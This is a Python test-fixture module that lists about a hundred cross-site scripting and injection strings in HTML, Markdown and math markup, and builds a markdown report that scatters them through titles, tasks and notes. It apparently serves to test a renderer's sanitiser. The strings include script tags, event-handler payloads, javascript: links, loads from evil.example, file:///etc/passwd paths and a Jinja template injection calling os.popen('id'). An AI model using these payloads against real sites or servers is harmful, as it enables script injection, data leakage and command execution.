"""A hundred texts that try to run something in the page of somebody else."""

from __future__ import annotations

_ALERT = "window.hit=1"
_BARE = (
    f"<script>{_ALERT}</script>",
    f"<SCRIPT>{_ALERT}</SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    f"</script><script>{_ALERT}</script>",
    f"</style><script>{_ALERT}</script>",
    f"</title><script>{_ALERT}</script>",
    f"</textarea><script>{_ALERT}</script>",
    f"--><script>{_ALERT}</script>",
    f"]]><script>{_ALERT}</script>",
    f"<scr<script>ipt>{_ALERT}</scr</script>ipt>",
    f"<script\t>{_ALERT}</script\t>",
    f"&lt;script&gt;{_ALERT}&lt;/script&gt;",
    f"&#60;script&#62;{_ALERT}&#60;/script&#62;",
    f"\\<script>{_ALERT}</script>",
    f"<img src=x onerror={_ALERT}>",
    f'<img src="x" onerror="{_ALERT}">',
    f"<img/src/onerror={_ALERT}>",
    f"<svg onload={_ALERT}>",
    f"<svg><script>{_ALERT}</script></svg>",
    f"<svg><animate onbegin={_ALERT} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={_ALERT}></mtext></math>",
    f"<math href=javascript:{_ALERT}>x</math>",
    f"<body onload={_ALERT}>",
    f"<input autofocus onfocus={_ALERT}>",
    f"<details open ontoggle={_ALERT}>x</details>",
    f"<iframe src=javascript:{_ALERT}></iframe>",
    f"<iframe srcdoc='<script>{_ALERT}</script>'></iframe>",
    f"<object data=javascript:{_ALERT}></object>",
    f"<embed src=javascript:{_ALERT}>",
    f"<a href=javascript:{_ALERT}>x</a>",
    f"<form action=javascript:{_ALERT}><button>x</button></form>",
    f"<button formaction=javascript:{_ALERT} form=reply>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    f"<video><source onerror={_ALERT}></video>",
    f"<marquee onstart={_ALERT}>x</marquee>",
    f"<template><script>{_ALERT}</script></template>",
    f"<noscript><img src=x onerror={_ALERT}></noscript>",
    f'" onmouseover="{_ALERT}" autofocus onfocus="{_ALERT}',
    f"' onmouseover='{_ALERT}' x='",
    f"` onmouseover=`{_ALERT}`",
    "{{ 7*7 }}{% for x in cycler.__init__.__globals__.os.popen('id') %}{% endfor %}",
    f"javascript:{_ALERT}",
    f"${{{_ALERT}}}",
    f"<xss onclick={_ALERT} tabindex=1 id=text>x</xss>",
)  # fmt: skip
_MARKDOWN = (
    f"[x](javascript:{_ALERT})",
    f"[x](JaVaScRiPt:{_ALERT})",
    f"[x]( javascript:{_ALERT})",
    f"[x](<javascript:{_ALERT}>)",
    f"[x](java\tscript:{_ALERT})",
    f"[x](javascript&colon;{_ALERT})",
    f"[x](javascript&#58;{_ALERT})",
    f"[x](&#106;avascript:{_ALERT})",
    f"[x](\\javascript:{_ALERT})",
    f"[x](%6aavascript:{_ALERT})",
    f"[x](vbscript:{_ALERT})",
    f"[x](data:text/html,<script>{_ALERT}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/)",
    f'[x](https://evil.example/" onmouseover="{_ALERT})',
    f'[x](https://evil.example "t\\" onmouseover=\\"{_ALERT}")',
    f"[<img src=x onerror={_ALERT}>](https://evil.example)",
    f"[x][y] and [y]: javascript:{_ALERT}",
    f"<javascript:{_ALERT}>",
    f"<https://evil.example/><script>{_ALERT}</script>",
    f"![x](javascript:{_ALERT})",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    f"![x](data:image/svg+xml,<svg onload={_ALERT}>)",
    "![x](data:image/png;base64,AAAA)",
    f'![" onerror="{_ALERT}](codebook.png)',
    "![x](../../../etc/passwd)",
    "![x](/etc/passwd)",
    "![x](file:///etc/passwd)",
    "![x](litnotes.yaml)",
    "![x](codebook.svg)",
    f'![x](codebook.png"onerror="{_ALERT})',
    f"`<script>{_ALERT}</script>`",
    f"``</code><script>{_ALERT}</script>``",
    f"**<script>{_ALERT}</script>**",
    f"$<script>{_ALERT}</script>$",
    f"$\\text{{<script>{_ALERT}</script>}}$",
    f"$\\text{{<img src=x onerror={_ALERT}>}}$",
    f"$\\href{{javascript:{_ALERT}}}{{x}}$",
    "$\\style{background:url(https://evil.example/x)}{x}$",
    f'$\\class{{" onmouseover="{_ALERT}}}{{x}}$',
    "$\\unicode{<script>}$",
    f'$\\color{{" onload="{_ALERT}}}{{x}}$',
    f"$$\\html{{<script>{_ALERT}</script>}}$$",
    f"\\(<script>{_ALERT}</script>\\)",
    f"[^<script>{_ALERT}</script>]",
    f"| <script>{_ALERT}</script> | x |",
    f"https://evil.example/<script>{_ALERT}</script>",
)  # fmt: skip
INJECTIONS = (*_BARE, *_MARKDOWN)


def report(day: str = "June 1") -> str:
    """Return a report with the injections in title, tasks, questions, names of papers, fields and notes."""
    lines = [f"# {day} Report {INJECTIONS[0]}", "", "## TODO"]
    lines += [f"- see {text}" for text in INJECTIONS]
    lines += ["", "## Questions to be asked"]
    lines += [f"{number}. what of {text} ?" for number, text in enumerate(INJECTIONS[::5], 1)]
    lines += [f"   Answer (Lin): {INJECTIONS[1]}", "", "## Conclusion on papers"]
    for number, text in enumerate(INJECTIONS[::7]):
        lines += [f"### Paper {number} {text}", f"Description: it is {text}", "", f"Similarity: {text}", ""]
        lines += [f"Verdict: unsure – {text}", ""]
    lines += [f"#### {INJECTIONS[14]}", INJECTIONS[2], "", "## Quick Notes"]
    lines += [f"{number}. note {text}" for number, text in enumerate(INJECTIONS[::9], 1)]
    lines += ["", f"## Thoughts {INJECTIONS[17]}", *(f"{text}\n" for text in INJECTIONS[::3])]
    return "\n".join(lines) + "\n"
